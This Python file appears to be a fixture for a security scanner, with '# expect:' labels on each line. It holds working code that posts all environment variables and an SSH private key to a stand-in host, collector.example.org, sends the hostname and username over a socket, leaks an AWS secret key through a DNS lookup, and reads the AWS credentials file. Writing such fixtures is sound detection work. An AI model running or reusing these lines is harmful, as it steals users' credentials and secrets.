# ruff: noqa
# fmt: off
"""Environment, credential files and host details leaving the machine."""
import getpass
import json
import os
import socket

import requests

requests.post("https://collector.example.org/e", data=json.dumps(dict(os.environ)), timeout=3)  # expect: exfiltrate-sensitive-data, env-dump

keys = open(os.path.expanduser("~/.ssh/id_rsa")).read()  # expect: credential-file-access
requests.post("https://collector.example.org/k", data={"k": keys}, timeout=3)  # expect: exfiltrate-sensitive-data

info = f"{socket.gethostname()}|{getpass.getuser()}"
sock = socket.socket()
sock.connect(("collector.example.org", 443))
sock.sendall(info.encode())  # expect: exfiltrate-sensitive-data

socket.gethostbyname(os.environ["AWS_SECRET_ACCESS_KEY"] + ".dns.example.org")  # expect: exfiltrate-undeclared-secret

aws = open(os.path.join(os.path.expanduser("~"), ".aws", "credentials")).read()  # expect: credential-file-access
